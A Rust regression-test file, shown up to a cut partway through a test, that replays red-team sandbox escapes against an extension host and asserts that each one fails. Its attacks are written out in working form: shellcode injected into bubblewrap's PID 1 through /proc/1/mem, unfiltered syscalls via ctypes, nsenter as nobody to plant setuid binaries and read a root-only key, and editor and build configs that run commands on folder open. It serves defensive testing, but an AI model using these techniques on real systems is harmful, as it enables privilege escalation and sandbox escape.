//! Escapes a red-team review found in the first version of the issue-11 sandbox, kept as
//! regression tests. Each test starts the `redteam` fixture (an extension that evaluates the
//! JavaScript it is sent) in a real sandbox and asserts that an attack does NOT work; a test
//! that fails here is a working escape. Run one with
//! `scripts/with-keyring cargo test --test redteam -- --nocapture <name>`
//! (`REDTEAM_BACKEND=landlock|bwrap|bwrap+landlock` for one backend). Some need root (the
//! supervisor as root is the setting they attack) and say so when run as a user.

mod common;

#[allow(unused_imports)]
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::Duration;

use common::{Env, fast, json, raw, settings};
use dscode_extension_host::Supervisor;
use dscode_extension_host::lifecycle::{HostHandle, HostOptions};
use dscode_extension_host::permissions::{Grant, GrantsFile};
use dscode_extension_host::sandbox::{Backend, Profile, SandboxSpec};
use serde_json::{Value, json};

const ID: &str = "test.redteam";

fn rand_u64() -> u64 {
    use std::io::Read;
    let mut bytes = [0u8; 8];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut bytes))
        .unwrap();
    u64::from_ne_bytes(bytes)
}

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// A private tree outside /tmp (every backend hides /tmp), removed at the end.
struct Lab {
    dir: PathBuf,
}

impl Lab {
    fn new() -> Self {
        let parent = if is_root() { "/var/lib" } else { "/var/tmp" };
        let dir = Path::new(parent).join(format!(
            "dscode-redteam-{}-{:x}",
            std::process::id(),
            rand_u64()
        ));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        Self { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.join(rel)
    }

    fn plant(&self, rel: &str, contents: &str) -> PathBuf {
        let path = self.path(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, contents).unwrap();
        path
    }

    /// The fixture copied into the lab, its manifest asking for `permissions`.
    fn extension(&self, permissions: &[&str]) -> PathBuf {
        let ext = self.path("extensions/test.redteam-1.0.0");
        std::fs::create_dir_all(&ext).unwrap();
        std::fs::copy(
            common::fixture("redteam").join("extension.js"),
            ext.join("extension.js"),
        )
        .unwrap();
        let manifest = json!({
            "name": "redteam", "publisher": "test", "version": "1.0.0",
            "main": "extension.js", "permissions": permissions,
        });
        std::fs::write(ext.join("package.json"), manifest.to_string()).unwrap();
        ext
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        if std::env::var_os("REDTEAM_KEEP").is_none() {
            let _ = std::fs::remove_dir_all(&self.dir);
        }
    }
}

/// What one host start is given.
struct Start<'a> {
    backend: Backend,
    workspace: Vec<PathBuf>,
    allow: &'a [&'a str],
    deny: &'a [&'a str],
    storage: Option<PathBuf>,
    private: Vec<PathBuf>,
}

struct Running {
    host: HostHandle,
    _env: Env,
}

impl Running {
    async fn eval(&self, source: &str) -> Value {
        let out = self
            .host
            .execute_command("rt.eval", &raw(&json!([source]).to_string()))
            .await
            .expect("rt.eval answers");
        json(&out)
    }

    #[allow(dead_code)]
    fn pid(&self) -> u32 {
        self.host.status().pid.expect("a running host has a pid")
    }
}

async fn start(lab: &Lab, s: Start<'_>) -> Running {
    let mut requested: Vec<&str> = s.allow.to_vec();
    requested.extend(s.deny.iter().copied());
    let ext = lab.extension(&requested);
    let env = Env::new_in(&lab.dir);
    let mut spec = env.spec(
        &ext,
        HostOptions {
            request_timeout: Duration::from_secs(60),
            ..fast()
        },
    );
    if let Some(storage) = &s.storage {
        std::fs::create_dir_all(storage).unwrap();
    }
    spec.storage_path = s.storage.clone();
    let mut profile = Profile::load("default").unwrap();
    profile.backend = s.backend;
    let mut sandbox_settings = settings();
    sandbox_settings.private = s.private.clone();
    spec.sandbox = SandboxSpec::new(profile, sandbox_settings);
    let mut grants = GrantsFile::default();
    grants.extensions.insert(
        ID.into(),
        Grant {
            version: "1.0.0".into(),
            requested: requested.iter().map(|s| (*s).to_owned()).collect(),
            allow: s.allow.iter().map(|s| (*s).to_owned()).collect(),
            deny: s.deny.iter().map(|s| (*s).to_owned()).collect(),
        },
    );
    let supervisor = Supervisor::builder()
        .workspace(s.workspace.clone())
        .policy(grants)
        .private_paths(s.private.clone())
        .node_runtime(env.node.clone())
        .without_secrets()
        .build()
        .await
        .unwrap();
    let host = supervisor.add_host(spec).await.unwrap();
    host.start().await.expect("the red-team extension starts");
    println!(
        "sandbox: {}",
        host.status().sandbox.map(|r| r.table()).unwrap_or_default()
    );
    Running { host, _env: env }
}

fn backends() -> Vec<Backend> {
    match std::env::var("REDTEAM_BACKEND").as_deref() {
        Ok("landlock") => vec![Backend::Landlock],
        Ok("bwrap") => vec![Backend::Bwrap],
        Ok("bwrap+landlock") => vec![Backend::BwrapLandlock],
        _ => vec![Backend::Landlock, Backend::Bwrap, Backend::BwrapLandlock],
    }
}

/// Exploration: what a host sees of its processes, mounts and fds, per backend.
#[tokio::test(flavor = "multi_thread")]
/// Every process a host can see carries the sandbox's filters and no capability, PID 1
/// included; what it can list at `/` holds no file of the machine's own (`/etc/shadow`), while
/// its runtime is there (the positive control).
async fn every_visible_process_is_confined_and_the_machine_is_not_in_view() {
    let lab = Lab::new();
    lab.plant("ws/src/a.txt", "a");
    for backend in backends() {
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("ws")],
                allow: &["fileSystem.write"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(
                r"
                const fs = require('fs');
                const r = {};
                const tryit = (k, f) => { try { r[k] = f(); } catch (e) { r[k] = 'ERR ' + e.code; } };
                tryit('ids', () => [process.getuid(), process.geteuid(), process.getgid()]);
                tryit('pids', () => fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)));
                for (const p of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
                  tryit(`comm${p}`, () => fs.readFileSync(`/proc/${p}/comm`, 'utf8').trim());
                  tryit(`status${p}`, () => fs.readFileSync(`/proc/${p}/status`, 'utf8').split('\n').filter((l) => /^(Uid|Cap|NoNewPrivs|Seccomp)/.test(l)).join(' | '));
                  tryit(`root${p}`, () => fs.readdirSync(`/proc/${p}/root`).join(','));
                  tryit(`cwd${p}`, () => fs.readlinkSync(`/proc/${p}/cwd`));
                  tryit(`fd${p}`, () => fs.readdirSync(`/proc/${p}/fd`).map((f) => { try { return f + '->' + fs.readlinkSync(`/proc/${p}/fd/${f}`); } catch (e) { return f + ' ' + e.code; } }).join(' '));
                }
                tryit('mountinfo', () => fs.readFileSync('/proc/self/mountinfo', 'utf8'));
                tryit('rootls', () => fs.readdirSync('/').join(','));
                tryit('shadow', () => fs.statSync('/etc/shadow').size);
                tryit('node', () => fs.statSync(process.execPath).size > 0);
                return r;
                ",
            )
            .await;
        println!(
            "=== {backend}: {}",
            serde_json::to_string_pretty(&out).unwrap()
        );
        host.host.stop().await;
        let r = &out["value"];
        let pids: Vec<String> = r["pids"]
            .as_array()
            .expect("the host lists its /proc")
            .iter()
            .map(|p| p.as_str().unwrap().to_owned())
            .collect();
        assert!(pids.len() >= 2, "{backend}: {pids:?}");
        for pid in &pids {
            let status = r[format!("status{pid}")].as_str().unwrap_or_default();
            assert!(
                status.contains("Seccomp:\t2")
                    && status.contains("NoNewPrivs:\t1")
                    && status.contains("CapEff:\t0000000000000000"),
                "{backend}: process {pid} is not confined like the host: {status}"
            );
        }
        assert_eq!(r["shadow"], "ERR ENOENT", "{backend}: {r}");
        assert_eq!(r["node"], true, "{backend}: positive control: {r}");
    }
}

/// bubblewrap's PID 1 (the backend `bwrap`) runs as the host's uid with no seccomp filter and
/// no Landlock domain. The host writes code into it through `/proc/1/mem` (no ptrace call
/// needed, so the filter's ptrace rule does not apply) at the address where its `wait` returns,
/// then makes an orphan exit so that PID 1 wakes up and runs it: everything the seccomp filter
/// refuses is then available. The payload here is `chmod(file, 04755)` on a file in the host's
/// storage, which the filter refuses to the host itself: the file becomes a setuid program of
/// the supervisor's user (as root: of the host user) on disk.
#[tokio::test(flavor = "multi_thread")]
async fn bwrap_pid1_runs_code_outside_the_seccomp_filter() {
    let lab = Lab::new();
    lab.plant("ws/a.txt", "a");
    let storage = lab.path("storage");
    let host = start(
        &lab,
        Start {
            backend: Backend::Bwrap,
            workspace: vec![lab.path("ws")],
            allow: &["fileSystem.read"],
            deny: &[],
            storage: Some(storage.clone()),
            private: vec![],
        },
    )
    .await;
    let target = storage.join("suid-id");
    let source = r"
        const fs = require('fs');
        const target = __TARGET__;
        fs.copyFileSync('/usr/bin/id', target);
        const r = {};
        // The filter refuses this to the host itself.
        try { fs.chmodSync(target, 0o4755); r.direct = 'chmod 4755 worked?!'; } catch (e) { r.direct = e.code; }
        const sc = fs.readFileSync('/proc/1/syscall', 'utf8').trim().split(' ');
        r.pid1Syscall = sc.join(' ');
        const pc = BigInt(sc[sc.length - 1]);
        // chmod(path, 04755); then pause() forever, so PID 1 stays (the sandbox lives on).
        const path = Buffer.from(target + '\0');
        const code = Buffer.from([
          0x48, 0x8d, 0x3d, 0x15, 0x00, 0x00, 0x00, // lea rdi, [rip+0x15] (the path after the code)
          0xbe, 0xed, 0x09, 0x00, 0x00,             // mov esi, 0o4755
          0xb8, 0x5a, 0x00, 0x00, 0x00,             // mov eax, 90 (chmod)
          0x0f, 0x05,                               // syscall
          0xb8, 0x22, 0x00, 0x00, 0x00,             // mov eax, 34 (pause)
          0x0f, 0x05,                               // syscall
          0xeb, 0xf7,                               // jmp back to pause
        ]);
        const payload = Buffer.concat([code, path]);
        const mem = fs.openSync('/proc/1/mem', 'r+');
        fs.writeSync(mem, payload, 0, payload.length, Number(pc));
        fs.closeSync(mem);
        r.written = payload.length;
        // An orphan that exits: PID 1 returns from wait into the payload.
        sh('/bin/sh', ['-c', '(/bin/sleep 0.2 &) ; exit 0']);
        await new Promise((res) => setTimeout(res, 1500));
        r.modeAfter = (fs.statSync(target).mode & 0o7777).toString(8);
        r.pid1SyscallAfter = fs.readFileSync('/proc/1/syscall', 'utf8').trim();
        r.pids = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).map((p) => { try { return p + ':' + fs.readFileSync(`/proc/${p}/stat`, 'utf8').split(' ').slice(0, 4).join(' '); } catch (e) { return p; } });
        return r;
        "
    .replace("__TARGET__", &format!("{:?}", target.display().to_string()));
    let out = host.eval(&source).await;
    println!("{}", serde_json::to_string_pretty(&out).unwrap());
    let mode = std::fs::metadata(&target).map_or(0, |m| m.mode() & 0o7777);
    println!(
        "outside the sandbox: {} mode {:o} owner {}",
        target.display(),
        mode,
        std::fs::metadata(&target).map_or(0, |m| m.uid())
    );
    host.host.stop().await;
    assert_eq!(
        mode & 0o6000,
        0,
        "the host made a setuid file through bwrap's PID 1: {out}"
    );
}

/// JavaScript for the host: makes bubblewrap's PID 1 (no seccomp filter, no Landlock) exec
/// `/usr/bin/python3 SCRIPT` by writing code through `/proc/1/mem` where its `wait` returns, and
/// waking it with an orphan that exits. `SCRIPT` must be readable inside the sandbox (storage).
const PID1_EXEC_PYTHON: &str = r"
const fs = require('fs');
const script = __SCRIPT__;
const sc = fs.readFileSync('/proc/1/syscall', 'utf8').trim().split(' ');
const pc = Number(BigInt(sc[sc.length - 1]));
const P = Buffer.from('/usr/bin/python3\0');
const S = Buffer.from(script + '\0');
const codeLen = 38;
const d32 = (n) => { const b = Buffer.alloc(4); b.writeInt32LE(n); return [...b]; };
const code = Buffer.from([
  0x48, 0x8d, 0x3d, ...d32(codeLen - 7),            // lea rdi, [rip+P]
  0x48, 0x8d, 0x1d, ...d32(codeLen + P.length - 14), // lea rbx, [rip+S]
  0x31, 0xd2,                                        // xor edx, edx (envp = NULL)
  0x52, 0x53, 0x57,                                  // push NULL, S, P
  0x48, 0x89, 0xe6,                                  // mov rsi, rsp (argv)
  0xb8, 0x3b, 0x00, 0x00, 0x00,                      // mov eax, 59 (execve)
  0x0f, 0x05,                                        // syscall
  0xb8, 0x22, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb, 0xf7, // pause() forever if it failed
]);
if (code.length !== codeLen) throw new Error('code length ' + code.length);
const payload = Buffer.concat([code, P, S]);
const mem = fs.openSync('/proc/1/mem', 'r+');
fs.writeSync(mem, payload, 0, payload.length, pc);
fs.closeSync(mem);
sh('/bin/sh', ['-c', '(/bin/sleep 0.2 &) ; exit 0']);
";

/// Runs `python` as bubblewrap's PID 1 inside `host`'s sandbox (see [`PID1_EXEC_PYTHON`]) and
/// returns what it wrote to `storage/pid1-result.json`.
async fn as_bwrap_pid1(host: &Running, storage: &Path, python: &str) -> Value {
    let script = storage.join("pid1.py");
    let result = storage.join("pid1-result.json");
    let _ = std::fs::remove_file(&result);
    let wrapped = format!(
        "import json, signal, traceback\nout = {{}}\ntry:\n{}\nexcept Exception:\n    out['error'] = traceback.format_exc()\nopen({:?}, 'w').write(json.dumps(out))\nwhile True:\n    signal.pause()\n",
        python
            .lines()
            .map(|l| format!("    {l}"))
            .collect::<Vec<_>>()
            .join("\n"),
        result.display().to_string(),
    );
    std::fs::write(&script, wrapped).unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
    let js = PID1_EXEC_PYTHON.replace("__SCRIPT__", &format!("{:?}", script.display().to_string()));
    let out = host.eval(&js).await;
    if out["ok"] != true {
        // Planting refused at PID 1's /proc entries (the stage is PID 1 and not dumpable); the
        // same reads of the host's own entries work, so the refusal is the sandbox's.
        let error = out["error"].as_str().unwrap_or_default();
        assert!(
            error.contains("/proc/1/") && (error.contains("EACCES") || error.contains("EPERM")),
            "{out}"
        );
        let own = host
            .eval("return require('fs').readFileSync('/proc/self/syscall', 'utf8').length > 0;")
            .await;
        assert_eq!(
            own["ok"], true,
            "positive control: the host reads its own /proc: {own}"
        );
        return serde_json::json!({ "blocked": error });
    }
    for _ in 0..100 {
        if let Ok(text) = std::fs::read_to_string(&result) {
            return serde_json::from_str(&text).unwrap_or(Value::String(text));
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Value::Null
}

/// Python (ctypes) helpers the PID 1 scripts use.
const PY_LIBC: &str = r"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return (r, ctypes.get_errno() if r < 0 else 0)
";

/// Once PID 1 runs the attacker's code, the seccomp filter's refusals are gone: new user
/// namespaces (with every capability in them), memfd exec, `socket()`, `F_SETLEASE`.
#[tokio::test(flavor = "multi_thread")]
async fn bwrap_pid1_runs_unfiltered_python() {
    let lab = Lab::new();
    lab.plant("ws/notes.txt", "notes");
    let storage = lab.path("storage");
    let host = start(
        &lab,
        Start {
            backend: Backend::Bwrap,
            workspace: vec![lab.path("ws")],
            allow: &["fileSystem.read"],
            deny: &[],
            storage: Some(storage.clone()),
            private: vec![],
        },
    )
    .await;
    let notes = lab.path("ws/notes.txt");
    // A stream socket of the user's in the granted (read-only) folder, as an ssh-agent,
    // gpg-agent or rootless docker socket in a home directory would be.
    let agent = lab.path("ws/agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&agent).unwrap();
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o777)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let python = format!(
        "{PY_LIBC}
out['uid'] = os.getuid()
out['seccomp'] = [l.strip() for l in open('/proc/self/status') if l.startswith('Seccomp')]
pid = os.fork()
if pid == 0:
    r, e = sysc(272, 0x10000000 | 0x20000)  # unshare(CLONE_NEWUSER | CLONE_NEWNS)
    os._exit(0 if r == 0 else 100 + e)
out['unshare_newuser_newns'] = os.waitpid(pid, 0)[1] >> 8
fd, err = sysc(319, ctypes.c_char_p(b'x'), 0)  # memfd_create without MFD_NOEXEC_SEAL
out['memfd_plain'] = [fd, err]
if fd >= 0:
    os.write(fd, open('/usr/bin/true', 'rb').read())
    pid = os.fork()
    if pid == 0:
        os.execv('/proc/self/fd/%d' % fd, ['memfd-true'])
    out['memfd_exec_status'] = os.waitpid(pid, 0)[1]
s, err = sysc(41, 1, 1, 0)  # socket(AF_UNIX, SOCK_STREAM)
out['socket'] = [s, err]
f = os.open({notes:?}, os.O_RDONLY)
r, err = sysc(72, f, 1024, 0)  # fcntl(F_SETLEASE, F_RDLCK)
out['lease_on_workspace_file'] = [r, err]
import socket
c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
c.connect({agent:?})
c.send(b'hello-agent')
out['stream_connect_to_agent_socket'] = 'connected'
",
        notes = notes.display().to_string(),
        agent = agent.display().to_string()
    );
    let out = as_bwrap_pid1(&host, &storage, &python).await;
    println!(
        "as bwrap's PID 1: {}",
        serde_json::to_string_pretty(&out).unwrap()
    );
    println!("the agent socket accepted: {}", listener.accept().is_ok());
    host.host.stop().await;
    assert!(
        out["unshare_newuser_newns"] != 0 && out["memfd_plain"][0].as_i64().unwrap_or(-1) < 0,
        "code the host planted in bwrap's PID 1 ran without the seccomp filter: {out}"
    );
}

/// The pid (outside) of the host's `node`: the process with an argument under `lab`.
fn node_pid(lab: &Lab) -> u32 {
    for _ in 0..50 {
        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|n| n.parse::<u32>().ok())
            else {
                continue;
            };
            let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            if comm.trim() == "node"
                && String::from_utf8_lossy(&cmdline).contains(lab.dir.to_str().unwrap())
            {
                return pid;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("no node under {}", lab.dir.display());
}

/// A root supervisor's host runs as uid 65534 in a user namespace that the pre-exec child
/// made after it had become 65534, so the namespace's owner is 65534: the machine's `nobody`.
/// Every process of that user outside (any daemon running as nobody) has all capabilities in
/// it. Such a process joins the host's user and mount namespaces (no Landlock, no seccomp, no
/// `no_new_privs` for it) and, through the idmapped workspace mount, creates files there as
/// the workspace's owner and makes them setuid. With a root-owned workspace, that is a
/// setuid-root program on disk: nobody -> root.
#[tokio::test(flavor = "multi_thread")]
async fn nobody_outside_enters_a_root_hosts_namespaces() {
    if !is_root() {
        println!("needs a root supervisor; skipped");
        return;
    }
    let mut escaped = Vec::new();
    for backend in backends() {
        let lab = Lab::new();
        lab.plant("ws/src/main.c", "int main;");
        let secret = lab.plant("ws/root-only.key", "ROOT-ONLY-SECRET");
        std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("ws")],
                allow: &["fileSystem.read", "fileSystem.write"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let pid = node_pid(&lab);
        let planted = lab.path("ws/src/rootshell");
        let inside = format!(
            "cat {k}; cp /usr/bin/id {p} && chmod 6755 {p} && echo created-by-nobody > {n}",
            k = secret.display(),
            p = planted.display(),
            n = lab.path("ws/src/new.txt").display()
        );
        let out = std::process::Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .args([
                "nsenter",
                "--preserve-credentials",
                "-t",
                &pid.to_string(),
                "-U",
                "-m",
                "-r",
                "-w",
            ])
            .args(["/bin/sh", "-c", &inside])
            .output()
            .unwrap();
        println!(
            "{backend}: nsenter as nobody: status {:?} stdout {:?} stderr {:?}",
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let meta = std::fs::metadata(&planted).ok();
        if let Some(m) = &meta {
            println!(
                "{backend}: on disk {} owner {}:{} mode {:o}",
                planted.display(),
                m.uid(),
                m.gid(),
                m.mode() & 0o7777
            );
            // Any local user now runs it as root.
            let run = std::process::Command::new("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
                .arg(&planted)
                .output()
                .unwrap();
            println!(
                "{backend}: run by nobody: {}",
                String::from_utf8_lossy(&run.stdout)
            );
        }
        host.host.stop().await;
        if String::from_utf8_lossy(&out.stdout).contains("ROOT-ONLY-SECRET") {
            escaped.push(format!("{backend}: read a root-only (0600) workspace file"));
        }
        if let Some(m) = meta.as_ref().filter(|m| m.mode() & 0o6000 != 0) {
            escaped.push(format!(
                "{backend}: setuid program of uid {} planted",
                m.uid()
            ));
        }
    }
    assert!(
        escaped.is_empty(),
        "a nobody process outside planted a setuid program of the workspace owner through the host's namespaces: {escaped:?}"
    );
}

/// i386 syscalls (`int 0x80`) from the host: the kernel has IA32 emulation; the x32 guard
/// passes other architectures on to the main filters, whose architecture check decides.
#[tokio::test(flavor = "multi_thread")]
async fn i386_int80_syscalls() {
    let lab = Lab::new();
    lab.plant("ws/a.txt", "a");
    for backend in backends() {
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("ws")],
                allow: &["fileSystem.read"],
                deny: &[],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(
                r"
                const code = `
import ctypes, mmap, sys
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
MAP_32BIT = 0x40
m = libc.mmap(None, 4096, 7, 0x22 | MAP_32BIT, -1, 0)
nr, a1 = int(sys.argv[1]), int(sys.argv[2])
# push rbx; mov eax, nr; mov ebx, a1; int 0x80; pop rbx; ret
code = bytes([0x53, 0xb8]) + nr.to_bytes(4, 'little') + bytes([0xbb]) + a1.to_bytes(4, 'little', signed=True) + bytes([0xcd, 0x80, 0x5b, 0xc3])
ctypes.memmove(m, code, len(code))
f = ctypes.CFUNCTYPE(ctypes.c_int)(m)
print(f())
`;
                const r = {};
                r.getpid = sh('/usr/bin/python3', ['-c', code, '20', '0']);
                r.unshare_newuser = sh('/usr/bin/python3', ['-c', code, '310', String(0x10000000)]);
                return r;
                ",
            )
            .await;
        println!("{backend}: {}", serde_json::to_string(&out).unwrap());
        host.host.stop().await;
        for call in ["getpid", "unshare_newuser"] {
            assert_eq!(
                out["value"][call]["signal"], "SIGSYS",
                "{backend}: i386 {call}: {out}"
            );
        }
    }
}

/// Workspace folders that nest (`/p` and `/p/inner`, as a multi-root workspace may have): a
/// deny written for the outer folder (`inner/secret/**`) does not apply when the same path is
/// reached through the inner folder, neither in the broker (the innermost root wins, and the
/// deny does not match `secret/...` relative to it) nor in the OS view (computed per root).
#[tokio::test(flavor = "multi_thread")]
async fn a_deny_for_one_workspace_folder_is_bypassed_through_a_nested_one() {
    let lab = Lab::new();
    lab.plant("p/readme.txt", "readme");
    let secret = lab.plant("p/inner/secret/key.txt", "DENIED-SECRET");
    lab.plant("p/inner/code.txt", "code");
    // Folders that nest are refused, naming both: the same scope would name two folders.
    let nested = Supervisor::builder()
        .workspace([lab.path("p"), lab.path("p/inner")])
        .without_secrets()
        .build()
        .await
        .expect_err("nested workspace folders are refused");
    assert!(
        nested.to_string().contains("lies inside workspace folder"),
        "{nested}"
    );
    // With one folder, the deny holds for the host's own fs and the broker alike.
    let mut escaped = Vec::new();
    for backend in backends() {
        let host = start(
            &lab,
            Start {
                backend,
                workspace: vec![lab.path("p")],
                allow: &["fileSystem.read"],
                deny: &["fileSystem.read:inner/secret/**"],
                storage: Some(lab.path("storage")),
                private: vec![],
            },
        )
        .await;
        let out = host
            .eval(&r"
                const fs = require('fs');
                const r = {};
                try { r.direct = fs.readFileSync(__SECRET__, 'utf8'); } catch (e) { r.direct = e.code; }
                try { r.broker = await context.fs.readFile(__SECRET__); } catch (e) { r.broker = String(e.message).slice(0, 120); }
                try { r.controlBroker = await context.fs.readFile(__SECRET__.replace('inner/secret/key.txt', 'readme.txt')); } catch (e) { r.controlBroker = e.message; }
                return r;
            ".replace("__SECRET__", &format!("{:?}", secret.display().to_string())))
            .await;
        println!("{backend}: {}", serde_json::to_string(&out).unwrap());
        host.host.stop().await;
        assert_eq!(out["value"]["controlBroker"], "readme", "{out}");
        for how in ["direct", "broker"] {
            if out["value"][how] == "DENIED-SECRET" {
                escaped.push(format!("{backend}: {how} read of p/inner/secret/key.txt despite fileSystem.read:inner/secret/** denied"));
            }
        }
    }
    assert!(escaped.is_empty(), "{escaped:#?}");
}

/// Protected paths are a list of names; tools run code from more files than the list holds.
/// With a plain `fileSystem.write` grant the host creates (broker) or rewrites (its own fs)
/// files that make editors and build tools run a command on open or build, outside any
/// sandbox: `.helix/languages.toml` (language server command, no trust prompt),
/// `<name>.code-workspace` (the same tasks as `.vscode/tasks.json`), `.cargo/config.toml`
/// (`rustc-wrapper`/`runner`), `.zed/settings.json`, `.claude/settings.json` (hooks),
/// `.mise.toml`/`mise.toml` (hooks, tasks), `.git`'s bare cousin `repo.git/hooks`.
#[tokio::test(flavor = "multi_thread")]
async fn protected_names_miss_files_that_run_code() {
    let lab = Lab::new();
    lab.plant("ws/.git/config", "[core]\n");
    lab.plant("ws/.cargo/config.toml", "# existing\n");
    lab.plant("ws/project.code-workspace", "{}\n");
    lab.plant("ws/bare.git/hooks/post-update.sample", "#!/bin/sh\n");
    lab.plant("ws/bare.git/config", "[core]\n\tbare = true\n");
    lab.plant("ws/bare.git/HEAD", "ref: refs/heads/main\n");
    let ws = lab.path("ws");
    let host = start(
        &lab,
        Start {
            backend: Backend::Landlock,
            workspace: vec![ws.clone()],
            allow: &["fileSystem.read", "fileSystem.write"],
            deny: &[],
            storage: Some(lab.path("storage")),
            private: vec![],
        },
    )
    .await;
    let out = host
        .eval(&r#"
            const fs = require('fs');
            const ws = __WS__;
            const r = {};
            const broker = async (rel, data) => { try { await context.fs.writeFile(ws + '/' + rel, data); return 'written'; } catch (e) { return String(e.message).slice(0, 90); } };
            const direct = (rel, data) => { try { fs.writeFileSync(ws + '/' + rel, data); return 'written'; } catch (e) { return e.code; } };
            r.controlGitConfig = await broker('.git/config', '[core]\n\tfsmonitor = /bin/sh -c id\n');
            r.helix = await broker('.helix/languages.toml', '[language-server.x]\ncommand = "sh"\nargs = ["-c", "id > /tmp/pwned"]\n');
            r.zed = await broker('.zed/settings.json', '{"lsp": {"x": {"binary": {"path": "/bin/sh"}}}}');
            r.claude = await broker('.claude/settings.json', '{"hooks": {}}');
            r.mise = await broker('mise.toml', '[hooks]\nenter = "id"\n');
            r.cargoDirect = direct('.cargo/config.toml', '[build]\nrustc-wrapper = "/bin/sh"\n');
            r.codeWorkspaceDirect = direct('project.code-workspace', '{"tasks": {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}}');
            r.bareRepoConfigDirect = direct('bare.git/config', '[core]\n\tbare = true\n\thooksPath = /nonexistent\n');
            r.bareRepoHook = await broker('bare.git/hooks/post-update', '#!/bin/sh\nid\n');
            return r;
        "#.replace("__WS__", &format!("{:?}", ws.display().to_string())))
        .await;
    println!("{}", serde_json::to_string_pretty(&out).unwrap());
    host.host.stop().await;
    let v = &out["value"];
    assert_ne!(
        v["controlGitConfig"], "written",
        "control: .git is protected"
    );
    let written: Vec<&str> = [
        "helix",
        "zed",
        "claude",
        "mise",
        "cargoDirect",
        "codeWorkspaceDirect",
        "bareRepoConfigDirect",
        "bareRepoHook",
    ]
    .into_iter()
    .filter(|k| v[*k] == "written")
    .collect();
    assert!(
        written.is_empty(),
        "files that make tools run code, written with a plain write grant: {written:?}"
    );
}

/// The grants file is private, its temporary file is not: `GrantsFile::save` (what
/// `dscode-exthost grant|revoke|deny` runs) writes `grants.toml.tmp` with a plain
/// `std::fs::write` (following links, truncating what is there) and renames it over
/// `grants.toml`. When the grants file lies in a writable folder (beside a config in the
/// project, as the escape suite's unscoped scenario has it, or a workspace that holds the
/// state folder), the host creates `grants.toml.tmp` through the broker, exits, and at its
/// restart the view binds that file writable. The operator's next `grant` writes the new
/// grants into that very inode and renames it to `grants.toml`, so the host's bind now IS the
/// grants file: it writes itself any grant, applied at the next reload or start.
#[tokio::test(flavor = "multi_thread")]
async fn the_grants_files_temporary_file_becomes_the_grants_file() {
    let mut escaped = Vec::new();
    for backend in backends() {
        if let Some(line) = grants_tmp_attack(backend).await {
            escaped.push(line);
        }
    }
    assert!(escaped.is_empty(), "{escaped:#?}");
}

async fn grants_tmp_attack(backend: Backend) -> Option<String> {
    let lab = Lab::new();
    let ws = lab.path("ws");
    lab.plant("ws/src/a.txt", "a");
    lab.plant("ws/.git/config", "[core]\n");
    let config = lab.plant(
        "ws/dscode-exthost.toml",
        "[supervisor]\ngrants = \"grants.toml\"\n",
    );
    let grants_path = ws.join("grants.toml");
    let requested = ["fileSystem.read", "fileSystem.write"];
    let mut file = GrantsFile::default();
    file.grant(ID, "1.0.0", &requested.map(String::from), "fileSystem.read")
        .unwrap();
    file.grant(
        ID,
        "1.0.0",
        &requested.map(String::from),
        "fileSystem.write",
    )
    .unwrap();
    std::fs::write(&grants_path, toml::to_string_pretty(&file).unwrap()).unwrap();
    let host = start(
        &lab,
        Start {
            backend,
            workspace: vec![ws.clone()],
            allow: &requested,
            deny: &[],
            storage: Some(lab.path("storage")),
            private: vec![config.clone(), grants_path.clone()],
        },
    )
    .await;
    let tmp = ws.join("grants.toml.tmp");
    // 1. The broker creates the temporary file (not private, not protected); the host's own
    //    fs cannot reach the grants file itself (control).
    let first = host
        .eval(&r"
            const fs = require('fs');
            const r = {};
            try { fs.writeFileSync(__GRANTS__, 'x'); r.controlDirect = 'written?!'; } catch (e) { r.controlDirect = e.code; }
